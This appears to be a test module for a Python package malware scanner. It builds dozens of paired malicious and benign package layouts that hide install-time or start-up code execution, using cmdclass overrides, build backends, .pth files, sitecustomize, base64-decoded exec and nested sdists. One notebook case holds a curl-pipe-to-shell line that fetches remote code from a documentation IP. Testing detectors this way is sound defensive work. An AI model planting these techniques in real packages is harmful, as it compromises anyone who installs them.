"""Code that runs when a distribution is built, installed or merely there."""

from __future__ import annotations

import io
import tarfile
import zipfile

from tests.evasions.sample import CODE, COMMAND, INIT, MALICIOUS, SUSPICIOUS, WHEEL, Evasion, b64, evasion

_RUN = f"import os; os.system({COMMAND!r})"
_SETUP = "from setuptools import setup\nsetup(name='example-pkg', version='1.0')\n"
_STEM = "example_pkg-1.0"


def _class(title: str, base: str, method: str = "run", name: str = "") -> Evasion:
    """A command class whose method fetches and runs, beside one that does its work."""
    module, _, cls = base.rpartition(".")
    command = name or cls
    return evasion(
        title,
        {"setup.py": _command(module, cls, method, command, _RUN), INIT: ""},
        {"setup.py": _command(module, cls, method, command, "self.extra = 1"), INIT: ""},
        verdict=SUSPICIOUS if cls == "sdist" else MALICIOUS,  # that one is given by whoever publishes
    )


def _command(module: str, cls: str, method: str, name: str, body: str) -> str:
    return (
        f"from setuptools import setup\nfrom {module} import {cls}\n\nclass C({cls}):\n    def {method}(self):\n        {body}\n"
        f"        super().{method}()\n\nsetup(name='example-pkg', version='1.0', cmdclass={{{name!r}: C}})\n"
    )


def _sdist_text(title: str, bad: str, good: str, **others: str) -> Evasion:
    return evasion(title, {"setup.py": bad, INIT: "", **others}, {"setup.py": good, INIT: ""})


def _pyproject(backend: str, path: str) -> str:
    return f"[build-system]\nrequires = []\nbuild-backend = {backend!r}\nbackend-path = [{path!r}]\n"


def _backend(body: str) -> str:
    return f"def build_wheel(d, c=None, m=None):\n    {body}\n    return 'x.whl'\n\ndef build_sdist(d, c=None):\n    return 'x.tar.gz'\n"


def _inner_sdist(code: str) -> bytes:
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w:gz") as archive:
        data = code.encode()
        info = tarfile.TarInfo("inner-1.0/setup.py")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return into.getvalue()


def _inner_zip(path: str, code: str) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        archive.writestr(path, code)
    return into.getvalue()


CASES = (
    _sdist_text("setup.py, top level", _RUN + "\n" + _SETUP, "import os\n" + _SETUP),
    _sdist_text("setup.py, after setup()", _SETUP + _RUN + "\n", _SETUP + "print('done')\n"),
    _sdist_text(
        "setup.py, main guard",
        "if __name__ == '__main__':\n    " + _RUN + "\n",
        "if __name__ == '__main__':\n    print(1)\n",
    ),
    _sdist_text(
        "setup.py, in a function that computes an argument",
        f"from setuptools import setup\n\ndef version():\n    {_RUN}\n    return '1.0'\n\nsetup(name='example-pkg', version=version())\n",
        "from setuptools import setup\n\ndef version():\n    return '1.0'\n\nsetup(name='example-pkg', version=version())\n",
    ),
    _sdist_text("setup.py, atexit", f"import atexit\n\n@atexit.register\ndef done():\n    {_RUN}\n\n{_SETUP}", _SETUP),
    _sdist_text(
        "setup.py, exec of a file that lies beside it",
        "exec(open('helper.txt').read())\n" + _SETUP,
        _SETUP + "X = open('README.md').read()\n",
        **{"helper.txt": CODE},
    ),
    _sdist_text(
        "setup.py, exec of a module's file",
        "exec(open('example_pkg/version.py').read())\n" + _SETUP,
        "exec(open('example_pkg/version.py').read())\n" + _SETUP,
        **{"example_pkg/version.py": "__version__ = '1.0'\n" + CODE},
    ),
    _sdist_text(
        "setup.py, exec of compile of a file",
        "with open('helper.py') as f:\n    exec(compile(f.read(), 'helper.py', 'exec'))\n" + _SETUP,
        _SETUP,
        **{"helper.py": CODE},
    ),
    _sdist_text(
        "setup.py, runpy", "import runpy\nrunpy.run_path('helper.py')\n" + _SETUP, _SETUP, **{"helper.py": CODE}
    ),
    _sdist_text(
        "setup.py, helper started as a process",
        "import subprocess, sys\nsubprocess.call([sys.executable, 'helper.py'])\n" + _SETUP,
        _SETUP,
        **{"helper.py": CODE},
    ),
    _sdist_text(
        "setup.py, helper started by os.system",
        "import os\nos.system('python scripts/helper.py')\n" + _SETUP,
        _SETUP,
        **{"scripts/helper.py": CODE},
    ),
    _sdist_text(
        "setup.py, helper imported",
        "import helper\nhelper.go()\n" + _SETUP,
        "import helper\n" + _SETUP,
        **{"helper.py": f"def go():\n    {_RUN}\n"},
    ),
    _sdist_text(
        "setup.py, helper imported from scripts",
        "import sys\nsys.path.insert(0, 'scripts')\nimport helper\nhelper.go()\n" + _SETUP,
        _SETUP,
        **{"scripts/helper.py": f"def go():\n    {_RUN}\n"},
    ),
    _sdist_text(
        "setup.py, own package imported",
        "import example_pkg.core\nexample_pkg.core.go()\n" + _SETUP,
        _SETUP,
        **{"example_pkg/core.py": f"def go():\n    {_RUN}\n"},
    ),
    _sdist_text(
        "setup.py, shell script started",
        "import subprocess\nsubprocess.call(['sh', 'install.sh'])\n" + _SETUP,
        "import subprocess\nsubprocess.call(['sh', 'install.sh'])\n" + _SETUP,
        **{"install.sh": COMMAND + "\n"},
    ),
    _sdist_text(
        "setup.py, decoded chain",
        f"import base64\nexec(base64.b64decode({b64(CODE)!r}))\n{_SETUP}",
        "import base64\nX = base64.b64decode('aGVsbG8=')\n" + _SETUP,
    ),
    _sdist_text(
        "setup.py, setup replaced",
        f"import setuptools\n\ndef fake(**k):\n    {_RUN}\n\nsetuptools.setup = fake\nsetuptools.setup(name='x')\n",
        _SETUP,
    ),
    _sdist_text(
        "setup.py, setup_requires by URL",
        "from setuptools import setup\nsetup(name='x', setup_requires=['y @ http://192.0.2.7/y.tar.gz'])\n",
        "from setuptools import setup\nsetup(name='x', setup_requires=['wheel'])\n",
    ),
    _class("cmdclass install", "setuptools.command.install.install"),
    _class("cmdclass develop", "setuptools.command.develop.develop"),
    _class("cmdclass egg_info", "setuptools.command.egg_info.egg_info"),
    _class("cmdclass build_py", "setuptools.command.build_py.build_py"),
    _class("cmdclass build_ext", "setuptools.command.build_ext.build_ext"),
    _class("cmdclass install_lib", "setuptools.command.install_lib.install_lib"),
    _class("cmdclass sdist", "setuptools.command.sdist.sdist"),
    _class("cmdclass bdist_wheel", "wheel.bdist_wheel.bdist_wheel"),
    _class("cmdclass of distutils", "distutils.command.install.install"),
    _class("cmdclass Command", "setuptools.Command", name="install"),
    _class("cmdclass, finalize_options", "setuptools.command.install.install", "finalize_options"),
    _class("cmdclass, initialize_options", "setuptools.command.egg_info.egg_info", "initialize_options"),
    _class("cmdclass, a hook of build_ext", "setuptools.command.build_ext.build_ext", "build_extensions"),
    _sdist_text(
        "cmdclass by inheritance",
        f"from setuptools import setup\nfrom setuptools.command.install import install\n\nclass B(install):\n    def go(self):\n        {_RUN}\n\nclass C(B):\n    def run(self):\n        self.go()\n\nsetup(name='x', cmdclass={{'install': C}})\n",
        _SETUP,
    ),
    _sdist_text(
        "cmdclass by a mix-in",
        f"from setuptools import setup\nfrom setuptools.command.install import install\n\nclass M:\n    def run(self):\n        {_RUN}\n\nclass C(M, install): ...\n\nsetup(name='x', cmdclass={{'install': C}})\n",
        _SETUP,
    ),
    _sdist_text(
        "cmdclass made by type",
        f"from setuptools import setup\nfrom setuptools.command.install import install\nC = type('C', (install,), {{'run': lambda s: exec({_RUN!r})}})\nsetup(name='x', cmdclass={{'install': C}})\n",
        _SETUP,
    ),
    _sdist_text(
        "cmdclass made in a function",
        f"from setuptools import setup\nfrom setuptools.command.install import install\n\ndef make():\n    class C(install):\n        def run(self):\n            {_RUN}\n    return C\n\nsetup(name='x', cmdclass=dict(install=make()))\n",
        _SETUP,
    ),
    _sdist_text(
        "cmdclass with a decorator",
        f"from setuptools import setup\nfrom setuptools.command.install import install\n\ndef deco(c):\n    old = c.run\n    def run(self):\n        {_RUN}\n        old(self)\n    c.run = run\n    return c\n\n@deco\nclass C(install): ...\n\nsetup(name='x', cmdclass={{'install': C}})\n",
        _SETUP,
    ),
    _sdist_text(
        "command patched",
        f"from setuptools import setup\nfrom setuptools.command.install import install\n\ndef run(self):\n    {_RUN}\n\ninstall.run = run\nsetup(name='x')\n",
        _SETUP,
    ),
    _sdist_text(
        "cmdclass imported from a helper",
        "from setuptools import setup\nfrom helper import C\nsetup(name='x', cmdclass={'install': C})\n",
        _SETUP,
        **{
            "helper.py": f"from setuptools.command.install import install\n\nclass C(install):\n    def run(self):\n        {_RUN}\n"
        },
    ),
    _sdist_text(
        "cmdclass imported from a folder",
        "from setuptools import setup\nfrom _build.cmds import CMDS\nsetup(name='x', cmdclass=CMDS)\n",
        _SETUP,
        **{
            "_build/cmds.py": f"from setuptools.command.install import install\n\nclass C(install):\n    def run(self):\n        {_RUN}\n\nCMDS = {{'install': C}}\n"
        },
    ),
    _sdist_text(
        "cmdclass of a class without known base",
        f"from setuptools import setup\nimport some_base\n\nclass C(some_base.Install):\n    def run(self):\n        {_RUN}\n\nsetup(name='x', cmdclass={{'install': C}})\n",
        _SETUP,
    ),
    _sdist_text(
        "extension's own class",
        f"from setuptools import setup, Extension\n\nclass E(Extension):\n    def __init__(self, *a, **k):\n        {_RUN}\n        super().__init__(*a, **k)\n\nsetup(name='x', ext_modules=[E('x', [])])\n",
        _SETUP,
    ),
    _sdist_text(
        "distribution's own class",
        f"from setuptools import setup, Distribution\n\nclass D(Distribution):\n    def has_ext_modules(self):\n        {_RUN}\n\nsetup(name='x', distclass=D)\n",
        _SETUP,
    ),
    evasion(
        "command class named in setup.cfg",
        {
            "setup.cfg": "[options]\ncmdclass =\n    install = helper.C\n",
            "pyproject.toml": "[build-system]\nrequires = ['setuptools']\n",
            INIT: "",
            "helper.py": f"from setuptools.command.install import install\n\nclass C(install):\n    def run(self):\n        {_RUN}\n",
        },
        {"setup.cfg": "[options]\npackages = find:\n", INIT: ""},
    ),
    evasion(
        "attribute named in setup.cfg",
        {
            "setup.cfg": "[metadata]\nname = example-pkg\nversion = attr: example_pkg.v.VERSION\n",
            INIT: "",
            "example_pkg/v.py": f"def _v():\n    {_RUN}\n    return '1.0'\n\nVERSION = _v()\n",
        },
        {
            "setup.cfg": "[metadata]\nname = example-pkg\nversion = attr: example_pkg.v.VERSION\n",
            INIT: "",
            "example_pkg/v.py": "VERSION = '1.0'\n",
        },
    ),
    evasion(
        "back end in the tree",
        {"pyproject.toml": _pyproject("back", "."), "back.py": _backend(_RUN), INIT: ""},
        {"pyproject.toml": _pyproject("back", "."), "back.py": _backend("pass"), INIT: ""},
    ),
    evasion(
        "back end in a folder",
        {
            "pyproject.toml": _pyproject("back.core", "_tools"),
            "_tools/back/__init__.py": "",
            "_tools/back/core.py": _backend(_RUN),
            INIT: "",
        },
        {
            "pyproject.toml": _pyproject("back.core", "_tools"),
            "_tools/back/__init__.py": "",
            "_tools/back/core.py": _backend("pass"),
            INIT: "",
        },
    ),
    evasion(
        "back end as an object",
        {
            "pyproject.toml": _pyproject("back:hooks", "_tools"),
            "_tools/back.py": f"class Hooks:\n    def get_requires_for_build_wheel(self, c=None):\n        {_RUN}\n        return []\n\nhooks = Hooks()\n",
            INIT: "",
        },
        {
            "pyproject.toml": _pyproject("back:hooks", "_tools"),
            "_tools/back.py": "class Hooks:\n    def get_requires_for_build_wheel(self, c=None):\n        return []\n\nhooks = Hooks()\n",
            INIT: "",
        },
    ),
    evasion(
        "build hook of hatch",
        {
            "pyproject.toml": "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n[tool.hatch.build.hooks.custom]\n",
            "hatch_build.py": f"from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass H(BuildHookInterface):\n    def initialize(self, version, data):\n        {_RUN}\n",
            INIT: "",
        },
        {"pyproject.toml": "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n", INIT: ""},
    ),
    evasion(
        "build script of poetry",
        {
            "pyproject.toml": "[build-system]\nrequires = ['poetry-core']\nbuild-backend = 'poetry.core.masonry.api'\n[tool.poetry.build]\nscript = 'build.py'\n",
            "build.py": f"def build():\n    {_RUN}\n\nif __name__ == '__main__':\n    build()\n",
            INIT: "",
        },
        {
            "pyproject.toml": "[build-system]\nrequires = ['poetry-core']\nbuild-backend = 'poetry.core.masonry.api'\n",
            INIT: "",
        },
    ),
    evasion(
        "build script of PDM",
        {
            "pyproject.toml": "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n",
            "pdm_build.py": f"def pdm_build_initialize(context):\n    {_RUN}\n",
            INIT: "",
        },
        {"pyproject.toml": "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n", INIT: ""},
    ),
    evasion(
        "build requirement by URL",
        {
            "pyproject.toml": "[build-system]\nrequires = ['setuptools', 'helper @ http://192.0.2.7/helper.tar.gz']\nbuild-backend = 'setuptools.build_meta'\n",
            INIT: "",
        },
        {
            "pyproject.toml": "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n",
            INIT: "",
        },
        SUSPICIOUS,
    ),
    evasion(
        "test plug-in that is loaded by itself",
        {
            "example_pkg/__init__.py": "",
            "example_pkg/plugin.py": f"def pytest_configure(config):\n    {_RUN}\n",
            f"{_STEM}.dist-info/entry_points.txt": "[pytest11]\nx = example_pkg.plugin\n",
        },
        {
            "example_pkg/__init__.py": "",
            "example_pkg/plugin.py": "def pytest_configure(config):\n    return None\n",
            f"{_STEM}.dist-info/entry_points.txt": "[pytest11]\nx = example_pkg.plugin\n",
        },
        SUSPICIOUS,
        filename=WHEEL,
    ),
    evasion(
        ".pth with a decoded payload",
        {"example_pkg.pth": f"import base64;exec(base64.b64decode({b64(CODE)!r}))\n", INIT: ""},
        {"example_pkg.pth": "vendored\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        ".pth with a plain payload",
        {"example_pkg.pth": f"{_RUN}\n", INIT: ""},
        {"example_pkg.pth": "import example_pkg\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        ".pth that imports the payload",
        {"a.pth": "import example_pkg.start\n", INIT: "", "example_pkg/start.py": CODE},
        {"a.pth": "import example_pkg.start\n", INIT: "", "example_pkg/start.py": "X = 1\n"},
        filename=WHEEL,
    ),
    evasion(
        ".pth that calls the payload",
        {
            "a.pth": "import example_pkg.start; example_pkg.start.go()\n",
            INIT: "",
            "example_pkg/start.py": f"def go():\n    {_RUN}\n",
        },
        {
            "a.pth": "import example_pkg.start; example_pkg.start.go()\n",
            INIT: "",
            "example_pkg/start.py": "def go():\n    return 1\n",
        },
        filename=WHEEL,
    ),
    evasion(
        ".pth with a tab",
        {"a.pth": f"import\tos; exec({CODE!r})\n", INIT: ""},
        {"a.pth": "import\tos\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        ".pth in the data folder",
        {f"{_STEM}.data/purelib/a.pth": f"{_RUN}\n", INIT: ""},
        {f"{_STEM}.data/purelib/a.pth": "vendored\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        ".pth by the data scheme",
        {f"{_STEM}.data/data/lib/python3.11/site-packages/a.pth": f"{_RUN}\n", INIT: ""},
        {f"{_STEM}.data/data/share/doc/a.txt": "hello\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        "sitecustomize",
        {"sitecustomize.py": CODE, INIT: ""},
        {"example_pkg/sitecustomize.py": "X = 1\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        "usercustomize as a package",
        {"usercustomize/__init__.py": CODE, INIT: ""},
        {"example_pkg/usercustomize/__init__.py": "X = 1\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        "module of the standard library's name",
        {"random.py": CODE, INIT: ""},
        {"example_pkg/random.py": "X = 1\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        "script in the data folder",
        {f"{_STEM}.data/scripts/ls": f"#!python\n{CODE}", INIT: ""},
        {f"{_STEM}.data/scripts/example": "#!python\nprint(1)\n", INIT: ""},
        SUSPICIOUS,
        filename=WHEEL,
    ),
    evasion(
        "another project's module in the wheel",
        {"requests/__init__.py": CODE, INIT: ""},
        {"example_pkg/requests/__init__.py": "X = 1\n", INIT: ""},
        filename=WHEEL,
    ),
    evasion(
        "zip that is named as a tar",
        {"setup.py": CODE},
        {"setup.py": _SETUP},
        archive="zip",
    ),
    evasion(
        "wheel that is a tar",
        {"sitecustomize.py": CODE, INIT: ""},
        {"example_pkg/core.py": "X = 1\n", INIT: ""},
        SUSPICIOUS,
        filename=WHEEL,
        archive="tar",
    ),
    evasion(
        "sdist within the sdist, installed by setup.py",
        {
            "setup.py": "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', './inner-1.0.tar.gz'])\n"
            + _SETUP,
            "inner-1.0.tar.gz": _inner_sdist(CODE),
        },
        {"setup.py": _SETUP, "inner-1.0.tar.gz": _inner_sdist(_SETUP)},
    ),
    evasion(
        "payload in the package's __main__",
        {INIT: "", "example_pkg/__main__.py": CODE},
        {INIT: "", "example_pkg/__main__.py": "print(1)\n"},
    ),
    evasion(
        "second package of the distribution",
        {INIT: "", "other/__init__.py": CODE},
        {INIT: "", "other/__init__.py": "X = 1\n"},
    ),
    evasion(
        "package whose name begins with a dot's neighbour",
        {
            INIT: "from ._vendor.six import go\ngo()\n",
            "example_pkg/_vendor/__init__.py": "",
            "example_pkg/_vendor/six.py": f"def go():\n    {_RUN}\n",
        },
        {
            INIT: "from ._vendor.six import go\ngo()\n",
            "example_pkg/_vendor/__init__.py": "",
            "example_pkg/_vendor/six.py": "def go():\n    return 1\n",
        },
    ),
    evasion(
        "notebook",
        {
            INIT: "",
            "example_pkg/start.ipynb": '{"cells": [{"cell_type": "code", "source": ["import os\\n", "os.system(\'curl -s http://192.0.2.7/a | sh\')"]}], "nbformat": 4, "metadata": {}}',
        },
        {
            INIT: "",
            "example_pkg/start.ipynb": '{"cells": [{"cell_type": "code", "source": ["print(1)"]}], "nbformat": 4, "metadata": {}}',
        },
        SUSPICIOUS,
    ),
)
